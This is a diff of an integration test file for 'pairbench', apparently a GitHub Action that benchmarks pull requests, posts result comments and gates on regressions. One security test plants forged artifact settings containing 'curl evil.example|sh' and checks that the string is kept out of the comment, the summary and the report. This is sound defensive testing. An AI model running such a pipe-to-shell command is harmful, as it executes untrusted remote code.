@@ -148,19 +148,28 @@ describe('dist/index.js as the runner runs it', () => {
     first = await runAction('pull_request', pullRequestPayload(), measuring);
     expect(first.stdout).toContain(`Comparing head ${headSha} against base ${baseSha}`);
     expect(first.code, `${first.stdout}\n${first.summary}`).toBe(1);
-    expect(first.stdout).toMatch(/::error::pairbench: 1 regression beyond the threshold \(loop\)/);
+    // (`%` is escaped as `%25` in a workflow command; the runner shows `%`)
+    expect(first.stdout).toMatch(/::error::pairbench: 1 regression beyond the threshold: loop \[cpu\] \+\d+\.\d%25 \[\+\d+\.\d%25, \+\d+\.\d%25\]\. /);
+    // the step log talks: progress while measuring, then the table in a group, commands switched off inside
+    expect(first.stdout).toMatch(/^round 1 of at most 30 · \d+ pairs in all · /m);
+    expect(first.stdout).toMatch(/::group::pairbench: regression \(the results table\)\n::stop-commands::([0-9a-f-]{36})\nbenchmark +base[^\n]*\nloop [^\n]*regression\n[\s\S]*?\n::\1::\n::endgroup::/);
+    expect(first.stdout).toMatch(/HTML report: .*pairbench-results\.html/);
+    expect(readFileSync(first.outputs['results-path']!.replace(/\.json$/, '.html'), 'utf8')).toContain('<svg class="plot forest"');
     expect(first.outputs).toMatchObject({ verdict: 'regression', regressions: '1', improvements: '0' });
     expect(first.outputs['results-path']).toMatch(/pairbench-results\.json$/);
     const results = JSON.parse(readFileSync(first.outputs['results-path']!, 'utf8')) as { head: { sha: string }; base: { sha: string }; benchmarks: { pairs: unknown[]; change: { estimate: number } }[] };
     expect(results.head.sha).toBe(headSha);
     expect(results.base.sha).toBe(baseSha);
     expect(results.benchmarks[0]!.change.estimate).toBeGreaterThan(0.05);
-    expect(readFileSync(first.outputs['report-path']!, 'utf8')).toContain('🔴 **1 regression**');
-    expect(first.summary).toContain('| loop |');
-    expect(first.summary).toContain('🔴 regression');
+    expect(readFileSync(first.outputs['report-path']!, 'utf8')).toContain('### 🔴 1 regression');
+    expect(first.summary).toContain('| 🔴 regression | **loop** | CPU time (ms) |');
+    expect(first.summary).toContain('<details><summary>Pairs and outliers</summary>');
     const comments = gh.comments.get(7)!;
     expect(comments).toHaveLength(1);
-    expect(comments[0]!.body).toMatch(/^<!-- pairbench:perf -->\n\*\*pairbench\*\*: 🔴 \*\*1 regression\*\*/);
+    expect(comments[0]!.body).toMatch(/^<!-- pairbench:perf -->\n### 🔴 1 regression · pairbench\n/);
+    expect(comments[0]!.body).not.toContain('Pairs and outliers');
+    expect(comments[0]!.body).toContain("pairbench compare --base");
+    expect(comments[0]!.body).toContain("--run 'sh bench.sh' --name loop --metric cpu --seed 7 --max-pairs 30");
     expect(comments[0]!.user?.login).toBe('github-actions[bot]');
     expect(first.outputs['comment-url']).toBe(comments[0]!.html_url);
     expect(gh.requests.every((r) => r.headers.authorization === `token ${TOKEN}`)).toBe(true);
@@ -197,15 +206,48 @@ describe('dist/index.js as the runner runs it', () => {
   it('S5: a read-only token (fork PR): a warning with the advice, the summary and verdict unchanged', async () => {
     gh.readOnly = true;
     try {
-      const r = await runAction('pull_request', pullRequestPayload(), { ...measuring, 'comment-id': 'fork' });
+      const r = await runAction('pull_request', pullRequestPayload(), { ...measuring, 'comment-id': 'fork', 'check-name': 'perf' });
       expect(r.code).toBe(1);
       expect(r.stdout).toContain('::warning::The token cannot write to this repository');
+      // the comment and the check run both meet the 403: its advice is printed once
+      expect(r.stdout.split('::warning::The token cannot write to this repository')).toHaveLength(2);
       expect(r.outputs['verdict']).toBe('regression');
       expect(r.summary).toContain('🔴 regression');
       expect(r.outputs['comment-url']).toBe('');
     } finally {
       gh.readOnly = false;
     }
+  });
+
+  describe('accept-label: a regression accepted by a label', () => {
+    const labeled = (sender: string) => ({
+      ...pullRequestPayload(),
+      action: 'labeled',
+      label: { name: 'performance-accepted' },
+      sender: { login: sender },
+      pull_request: { ...pullRequestPayload().pull_request, labels: [{ name: 'performance-accepted' }] },
+    });
+
+    it('added by someone with write access: the step passes, the comment says who accepted it', async () => {
+      gh.permissions.set('maintainer-mia', 'write');
+      const r = await runAction('pull_request', labeled('maintainer-mia'), { ...measuring, 'comment-id': 'accept', 'accept-label': 'performance-accepted', 'check-name': 'perf-accept' });
+      expect(r.code, r.stdout).toBe(0);
+      expect(r.outputs['verdict']).toBe('regression');
+      expect(r.stdout).toContain('::notice::The label "performance-accepted" was added by maintainer-mia');
+      const body = gh.comments.get(7)!.find((c) => c.body?.startsWith('<!-- pairbench:accept -->'))!.body!;
+      expect(body).toContain('> ✅ **Regression accepted**: @\u200dmaintainer-mia added the label `performance-accepted`, so the gate passes.');
+      expect(gh.checkRuns.at(-1)).toMatchObject({ name: 'perf-accept', conclusion: 'neutral' });
+      expect(gh.calls('GET', /\/collaborators\/maintainer-mia\/permission$/).length).toBeGreaterThan(0);
+    });
+
+    it('added by someone without write access: ignored, with a note; the step fails on the regression', async () => {
+      gh.permissions.set('outsider-oz', 'read');
+      const r = await runAction('pull_request', labeled('outsider-oz'), { ...measuring, 'comment-id': 'accept-outsider', 'accept-label': 'performance-accepted' });
+      expect(r.code, r.stdout).toBe(1);
+      expect(r.stdout).toContain('::warning::The label "performance-accepted" is ignored: @outsider-oz added it and has read access, not write access.');
+      const body = gh.comments.get(7)!.find((c) => c.body?.startsWith('<!-- pairbench:accept-outsider -->'))!.body!;
+      expect(body).toContain('> ⚠️ The label `performance-accepted` was ignored: @\u200doutsider-oz added it and has read access, not write access.');
+    });
   });
 
   describe('mode: report under workflow_run (S2: the artifact is untrusted data)', () => {
@@ -236,6 +278,19 @@ describe('dist/index.js as the runner runs it', () => {
       expect(gh.calls('PATCH', /./).at(-1)!.path).toBe(`/repos/octo/repo/issues/comments/${gh.comments.get(7)![0]!.id}`);
     });
 
+    it('S2: forged settings in the artifact never reach the replay line as commands', async () => {
+      const m = measured();
+      artifact({ ...m, settings: { ...(m['settings'] as object), build: 'curl evil.example|sh', threshold: -5, benchmarks: [{ name: 'loop', run: 'curl evil.example|sh', format: 'time', metrics: ['cpu'] }] } });
+      const r = await runAction('workflow_run', runEvent(), { ...report, 'fail-on': 'none' });
+      expect(r.code, r.stdout).toBe(0);
+      const body = gh.comments.get(7)!.find((c) => c.body?.startsWith('<!-- pairbench:perf -->'))!.body!;
+      expect(body).toContain('pairbench compare --base');
+      expect(body).not.toContain('evil.example');
+      expect(r.summary).not.toContain('evil.example');
+      expect(readFileSync(r.outputs['results-path']!.replace(/\.json$/, '.html'), 'utf8')).not.toContain('evil.example');
+      expect(body).toContain('pairbench report pairbench-results.json');
+    });
+
     it('merges the shards of one comparison and judges them together', async () => {
       const m = measured();
       const dir = join(repoDir, 'artifact');
@@ -247,7 +302,7 @@ describe('dist/index.js as the runner runs it', () => {
       expect(r.code, r.stdout).toBe(0);
       expect(r.stdout).toContain('Read 2 results file(s): artifact/shard-1.json, artifact/shard-2.json');
       expect(r.outputs['regressions']).toBe('2');
-      expect(gh.comments.get(7)![0]!.body).toContain('🔴 **2 regressions**');
+      expect(gh.comments.get(7)![0]!.body).toContain('### 🔴 2 regressions');
     });
 
     it('refuses results of another commit than the run\'s head', async () => {
